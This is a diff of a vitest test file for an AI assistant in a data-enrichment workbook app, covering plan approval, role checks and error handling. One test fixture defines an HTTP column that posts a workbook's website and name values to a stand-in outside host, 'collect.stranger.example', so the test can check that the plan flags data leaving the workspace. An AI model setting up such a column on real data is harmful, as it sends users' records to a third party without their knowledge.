@@ -1,7 +1,18 @@
 // Promises of the assistant: it reads with your role, proposes what changes, does it once after approval, and undoes it.
 import { afterAll, beforeAll, expect, test } from 'vitest'
-import { must } from '../../enrichment/kinds/kinds.fixture.ts'
-import { answer, bookOf, messagesOf, planEnd, runsEnd, startWorld, use, type World } from './assistant.fixture.ts'
+import { must, type ReceivedRequest } from '../../enrichment/kinds/kinds.fixture.ts'
+import {
+  answer,
+  bookOf,
+  MODEL,
+  messagesOf,
+  planEnd,
+  planIn,
+  runsEnd,
+  startWorld,
+  use,
+  type World,
+} from './assistant.fixture.ts'
 
 let world: World
 beforeAll(async () => {
@@ -45,11 +56,7 @@ test('what changes is proposed with its diff and cost, runs once after approval,
   const ann = await world.person()
   const book = await bookOf(ann, ['Website'], [['https://www.siemens.com/de'], ['spotify.com']])
   const run = { workbook_id: book.id, columns: ['Domain'] }
-  // The column is not there yet, so the run cannot be estimated and needs a cap of its own.
-  world.script(
-    use('plan', ['add_columns', { workbook_id: book.id, columns: [DOMAIN] }], ['start_run', { ...run, max_usd: 1 }]),
-    use('plan', ['add_columns', { workbook_id: book.id, columns: [DOMAIN] }]),
-  )
+  world.script(use('plan', ['add_columns', { workbook_id: book.id, columns: [DOMAIN] }]))
   const told = await ann.chat({ message: 'Add domains' })
   const plan = told.find(({ event }) => event === 'plan')?.data.plan
   expect(plan).toMatchObject({
@@ -108,6 +115,71 @@ test('later steps use the results of earlier ones: a workbook from nothing by on
   expect((await ann.call('GET', `/api/workbooks/${book}`)).status).toBe(404)
 })
 
+/** Every value in arguments that is no id of a workbook. */
+const valuesIn = (value: unknown): string[] =>
+  typeof value === 'object' && value !== null ? Object.values(value).flatMap(valuesIn) : [String(value)]
+
+test('a plan shows everything that it sets, and marks what sends data out of the workspace', async () => {
+  const ann = await world.person()
+  const book = await bookOf(ann, ['Website', 'Name'], [['asml.com', 'Ann']])
+  const columns = [
+    {
+      ...{ name: 'Helper', type: 'http', method: 'POST', url: 'https://collect.stranger.example/in?w={{Website}}' },
+      ...{ body: '{"who": "{{Name}}"}', headers: { 'x-note': 'all of it' }, fields: [{ name: 'ok', path: 'ok' }] },
+    },
+    { name: 'Mood', type: 'ai', model: MODEL, prompt: 'Judge {{Name}} of {{Website}}', fields: [{ name: 'mood' }] },
+    { name: 'Short', type: 'formula', expression: 'LEFT({{Name}}, 3)' },
+    DOMAIN,
+  ]
+  const refused = (heard: ReceivedRequest) => answer(messagesOf(heard).at(-1)?.content ?? '')
+  world.script(use('plan', ['add_columns', { workbook_id: book.id, columns }]), refused)
+  const told = await ann.chat({ message: 'Add some columns' })
+  expect(told.at(-2)?.event, told.at(-2)?.data.text).toBe('plan')
+  const [step] = planIn(told).steps
+  const plan = planIn(told)
+  const shown = step.sets as { name: string; value: string; sends_to: string | null }[]
+  for (const value of valuesIn(columns)) expect(shown.map((one) => one.value).join('\n')).toContain(value)
+  const leaving = shown.filter(({ sends_to }) => sends_to !== null)
+  expect(leaving.map(({ name, sends_to }) => [name, sends_to])).toEqual([
+    ['“Helper” › url', 'collect.stranger.example'],
+    ['“Mood” › model', expect.stringContaining('OpenAI')],
+  ])
+  expect(shown.slice(0, leaving.length)).toEqual(leaving)
+  expect(await must(ann.call('GET', `/api/assistant/plans/${plan.id}`), 200)).toMatchObject({ steps: [step] })
+})
+
+test('steps use what earlier steps of the plan make: a column is added and filled by one approval', async () => {
+  const ann = await world.person()
+  const book = await bookOf(ann, ['Website'], [['asml.com']])
+  const fill = { workbook_id: book.id, columns: ['Domain'] }
+  const steps = (max?: object) =>
+    use('plan', ['add_columns', { workbook_id: book.id, columns: [DOMAIN] }], ['start_run', { ...fill, ...max }])
+  let told = ''
+  world.script(steps(), (heard: ReceivedRequest) => {
+    told = messagesOf(heard).at(-1)?.content ?? ''
+    return steps({ max_usd: 0.1 })
+  })
+  const plan = planIn(await ann.chat({ message: 'Add the domain and fill it' }))
+  expect(told).toContain('max_usd: Field required')
+  expect(plan).toMatchObject({ max_usd: 0.1, steps: [{ tool: 'add_columns' }, { tool: 'start_run', max_usd: 0.1 }] })
+  await must(ann.call('POST', `/api/assistant/plans/${plan.id}/approve`, {}), 200)
+  const ended = await planEnd(ann, plan.id)
+  expect(ended.status, ended.error).toBe('done')
+  await runsEnd(ann, book.id)
+  const { rows, workbook } = await must(ann.call('GET', `/api/workbooks/${book.id}`), 200)
+  expect(rows[0].enrichments[workbook.columns_config[1].id].value).toBe('asml.com')
+})
+
+test('a grant for a workbook that there is not is refused, and nothing begins', async () => {
+  const ann = await world.person()
+  const book = await bookOf(ann, ['Website'])
+  const autopilot = { max_usd: 1, max_minutes: 5, acts: ['write'], workbook_ids: [book.id, 'no-such'] }
+  const refused = await ann.call('POST', '/api/assistant/chat', { message: 'Go', autopilot })
+  expect(refused.status, refused.text).toBe(422)
+  expect(refused.body.detail).toMatchObject([{ loc: ['body', 'autopilot', 'workbook_ids', 1] }])
+  expect((await must(ann.call('GET', '/api/assistant/conversations'), 200)).items).toEqual([])
+})
+
 test('a viewer gets no tool that changes anything, and no user sees or approves the plan of another', async () => {
   const ann = await world.person()
   const book = await bookOf(ann, ['Website'])
@@ -126,19 +198,34 @@ test('a viewer gets no tool that changes anything, and no user sees or approves 
   expect((await bob.call('GET', `/api/assistant/plans/${plan.id}`)).status).toBe(404)
   expect((await bob.call('POST', `/api/assistant/plans/${plan.id}/approve`, {})).status).toBe(404)
   expect((await bob.call('GET', `/api/assistant/conversations/${told[0]?.data.conversation_id}`)).status).toBe(404)
-  // The role counts when the plan runs.
+  // The role counts when the plan is approved, and again when it runs.
   await must(bob.call('PATCH', `/api/workspaces/${ann.workspace_id}/members/${ann.user_id}`, { role: 'viewer' }), 200)
-  await must(ann.call('POST', `/api/assistant/plans/${plan.id}/approve`, {}), 200)
-  expect(await planEnd(ann, plan.id)).toMatchObject({ status: 'failed', steps: [{ status: 'failed' }] })
+  const approval = await ann.call('POST', `/api/assistant/plans/${plan.id}/approve`, {})
+  expect(approval.status, approval.text).toBe(403)
+  expect(approval.body.detail).toContain('step 1')
+  expect(await must(ann.call('GET', `/api/assistant/plans/${plan.id}`), 200)).toMatchObject({ status: 'proposed' })
 })
 
 test('garbage, loops and plans that do not work end in an error in words', async () => {
   const ann = await world.person()
-  world.script('rubbish', '{"action": "fly"}', '[]')
+  const expected: string[] = []
+  const again = (said: string) => (heard: ReceivedRequest) => {
+    expected.push(messagesOf(heard).at(-1)?.content ?? '')
+    return said
+  }
+  world.script('{rubbish', again('{"action": "fly"}'), again('[]'))
   const garbage = await ann.chat({ message: 'Hello' })
   expect(garbage.at(-2)).toMatchObject({
     event: 'error',
     data: { detail: expect.stringContaining('did not answer as it should') },
+  })
+  expect(expected[0]).toContain('"action": "read" | "plan" | "answer"')
+  expect(expected[1]).toContain('"action" has to be one of read, plan, answer')
+  // Plain words are what they look like: a message.
+  world.script('There are three workbooks.')
+  expect((await ann.chat({ message: 'How many?' })).at(-2)).toMatchObject({
+    event: 'answer',
+    data: { text: 'There are three workbooks.' },
   })
   world.script(...Array(20).fill(use('read', ['list_workbooks', {}])))
   const loop = await ann.chat({ message: 'Loop' })
